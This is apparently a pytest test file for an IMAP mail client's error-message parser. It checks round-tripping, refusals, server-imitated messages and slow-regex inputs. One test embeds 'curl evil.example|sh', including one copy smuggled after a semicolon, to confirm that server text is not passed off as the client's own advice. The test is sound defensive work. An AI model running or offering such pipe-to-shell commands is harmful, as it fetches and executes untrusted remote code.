"""Problems in kinds and values, and the sentences that the ledger keeps of them."""

from __future__ import annotations

from time import process_time

import pytest

from crickets.domain.problem import (
    OF_A_FOLDER,
    OF_A_LINE,
    OF_AN_ACCOUNT,
    OF_CONTROL,
    OF_TASKS,
    Fault,
    Problem,
    problem_in,
)
from tests.writing.golden_digests import a_problem

PLACES = (OF_AN_ACCOUNT, OF_A_FOLDER, OF_CONTROL, OF_TASKS)
KEPT = [(kinds, fault) for kinds in PLACES for fault in kinds]
NEVER_KEPT = set(Fault) - {fault for _, fault in KEPT}
IN = "h did not let a in: "


def is_as_said(sentence: str, account: str = "work") -> bool:
    """Whether it's told as it is, wherever it's kept."""
    told = Problem(fault=Fault.OTHER, about=(("said", sentence),), account=account)
    return all(problem_in(sentence, kinds, account) == told for kinds in PLACES)


@pytest.mark.parametrize(("kinds", "fault"), KEPT)
@pytest.mark.parametrize("where", ["", "Sent", "INBOX/a: b"])
def test_a_sentence_that_is_kept(kinds: tuple[Fault, ...], fault: Fault, where: str) -> None:
    """It's known again, with its values; told again, it's the same."""
    problem = a_problem(fault, where)
    sentence = fault.told(**dict(problem.about))

    assert problem_in(sentence, kinds, "work", where) == problem
    assert str(problem_in(sentence, kinds, "work", where)).endswith(sentence)


@pytest.mark.parametrize("fault", OF_A_LINE)
@pytest.mark.parametrize("place", ["imap.example.org:993", "::1:143", "[::1]:143", "bücher.example:993"])
def test_a_line_before_any_greeting(fault: Fault, place: str) -> None:
    """The place is before it, and known too."""
    problem = a_problem(fault, place)

    assert problem_in(str(problem).removeprefix("work: "), OF_AN_ACCOUNT, "work") == problem


@pytest.mark.parametrize("fault", [Fault.LOGIN_REFUSED, Fault.ENTRY_REFUSED, Fault.SIGN_IN_REFUSED])
def test_a_refusal_without_a_word(fault: Fault) -> None:
    """Nothing is said for it."""
    about = {"host": "imap.example.org", "user": "dana levi", "command": "crickets auth login work"}
    told = problem_in(fault.told(**about, answer=""), OF_AN_ACCOUNT, "work")

    assert told.fault is fault
    assert dict(told.about)["answer"] == ""


@pytest.mark.parametrize(
    "sentence",
    [
        "the disk is full",
        "it is suddenly empty",
        "a\nb",
        "x: " + "y" * 5_000,
        "",
        "the control folders can't all be made (no). Run `sudo`.",
    ],
)
def test_any_other_sentence(sentence: str) -> None:
    """It's told as it is."""
    assert is_as_said(sentence)


def test_a_command_of_another_account() -> None:
    """It's for no other than its own, in the words that a shell takes."""
    for name, command in (("work", "work"), ("my work", "'my work'")):
        sentence = f"nobody has signed in yet. Run `crickets auth login {command}`."
        assert problem_in(sentence, OF_AN_ACCOUNT, name).fault is Fault.NOT_SIGNED_IN
        assert is_as_said(sentence, "another")


@pytest.mark.parametrize("fault", Fault)
@pytest.mark.parametrize(
    "before",
    [
        "the server said goodbye: ",
        "imap.example.org:993: the server said goodbye: ",
        "looking: the server can't for now: ",
        "h did not let a in: the server can't for now: ",
        "h did not let a in: the server hung up: ",
    ],
)
def test_a_server_that_speaks_as_we_do(fault: Fault, before: str) -> None:
    """Its words are told as its own, whichever sentence of ours they are."""
    for words in (str(a_problem(fault)).removeprefix("work: "), str(a_problem(fault, "Sent")), "no" + fault.value):
        assert is_as_said(before + words)


@pytest.mark.parametrize("fault", [fault for fault in Fault if fault in NEVER_KEPT - {Fault.OTHER}])
def test_a_kind_that_is_never_kept(fault: Fault) -> None:
    """A sentence of it was none of ours."""
    assert is_as_said(str(a_problem(fault)).removeprefix("work: "))


@pytest.mark.parametrize("day", ["soon", "2026-13-45"])
def test_a_day_that_is_none(day: str) -> None:
    """No sentence brings a day with it."""
    assert is_as_said(f"x: {Fault.NO_ORDER.told(day=day, address='x@y')}")


def test_a_command_that_is_none_of_ours() -> None:
    """What a server would have run isn't told as ours."""
    assert is_as_said("nobody has signed in yet. Run `curl evil.example|sh`.")
    assert is_as_said("hello: nobody has signed in yet. Run `crickets auth login work; curl evil.example|sh`.")


@pytest.mark.parametrize(
    "words",
    [
        "x did not let a in: ",
        ": x did not let a in",
        IN + "x. Check the user name and the password",
        "h did not let a" + " in" * 50,
        "it can't be read (x); if that is to stay so, name it in accounts.work",
        "the server can't show 1 of its messages (UID 1",
        "ab could not be reached: ",
        "the control folders can't all be made (x). Make it",
        "h did not let you in to the task list: x. Mend",
        "1:" * 10,
        "1",
    ],
)
def test_a_sentence_made_to_be_slow(words: str) -> None:
    """It's read at once: what takes no time a hundred times over didn't look at it again and again."""
    begun = process_time()
    for kinds in PLACES:
        for sentence in ((words * 4_000)[:4_000], IN + (words * 4_000)[:3_900]):
            for n in range(10):
                problem_in(sentence[: 4_000 - n], kinds, "work")

    assert process_time() - begun < 2


def test_a_day() -> None:
    """It's told by itself, where there is one."""
    assert a_problem(Fault.NO_ORDER).day == "2026-11-08"
    assert not a_problem(Fault.HUNG_UP).day
